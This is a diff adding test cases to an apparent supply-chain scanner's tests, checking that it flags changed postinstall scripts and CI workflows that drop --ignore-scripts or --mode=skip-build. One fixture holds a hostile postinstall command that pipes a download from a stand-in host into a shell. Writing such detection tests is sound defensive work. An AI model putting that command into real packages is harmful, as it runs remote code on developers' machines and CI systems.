@@ -201,6 +201,31 @@ const cases: Case[] = [
     want: ['CPU027@apps/web/package.json:8', 'CPU027@tools/gen/package.json:8'],
   },
   {
+    name: 'a folder package-lock.json links as a file: dependency changes its postinstall → CPU027 (npm ci runs it)',
+    base: {
+      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
+      'package-lock.json':
+        JSON.stringify(
+          {
+            name: 'app',
+            version: '1.0.0',
+            lockfileVersion: 3,
+            requires: true,
+            packages: {
+              '': { name: 'app', version: '1.0.0', dependencies: { z: 'file:vendor/z' } },
+              'node_modules/z': { resolved: 'vendor/z', link: true },
+              'vendor/z': { name: 'z', version: '1.0.0' },
+            },
+          },
+          null,
+          2,
+        ) + '\n',
+      'vendor/z/package.json': pkg({ scripts: { postinstall: 'node build.js' } }),
+    },
+    head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
+    want: ['CPU027@vendor/z/package.json:8'],
+  },
+  {
     name: 'a test fixture package.json (no lockfile, no workspace) gains a postinstall → CPU027 as a note only',
     base: { 'package.json': pkg({}), 'test/fixtures/app/package.json': pkg({}), 'apps/skip/package.json': pkg({}) },
     head: {
@@ -314,6 +339,34 @@ const cases: Case[] = [
       ),
     },
     want: ['CPU026@.github/workflows/ci.yml:8'],
+  },
+  {
+    name: 'a workflow drops --ignore-scripts from npm ci, or turns it false for pnpm → CPU026 naming both commands',
+    base: {
+      '.github/workflows/ci.yml': workflow(
+        'npm ci --ignore-scripts\n      - run: pnpm install --frozen-lockfile --ignore-scripts',
+      ),
+    },
+    head: {
+      '.github/workflows/ci.yml': workflow(
+        'npm ci\n      - run: pnpm install --frozen-lockfile --ignore-scripts=false',
+      ),
+    },
+    want: ['CPU026@.github/workflows/ci.yml:8'],
+  },
+  {
+    name: 'yarn 2+ drops --mode=skip-build → CPU026',
+    base: { '.github/workflows/ci.yml': workflow('yarn install --immutable --mode=skip-build') },
+    head: { '.github/workflows/ci.yml': workflow('yarn install --immutable') },
+    want: ['CPU026@.github/workflows/ci.yml:8'],
+  },
+  {
+    name: 'a workflow keeps --ignore-scripts (moved, or as =true) and rebuilds by hand → nothing',
+    base: { '.github/workflows/ci.yml': workflow('npm ci --ignore-scripts') },
+    head: {
+      '.github/workflows/ci.yml': workflow('npm ci --no-audit --ignore-scripts=true && npm rebuild esbuild'),
+    },
+    want: [],
   },
   {
     name: 'the same flag set to false, or the env set to false → nothing',
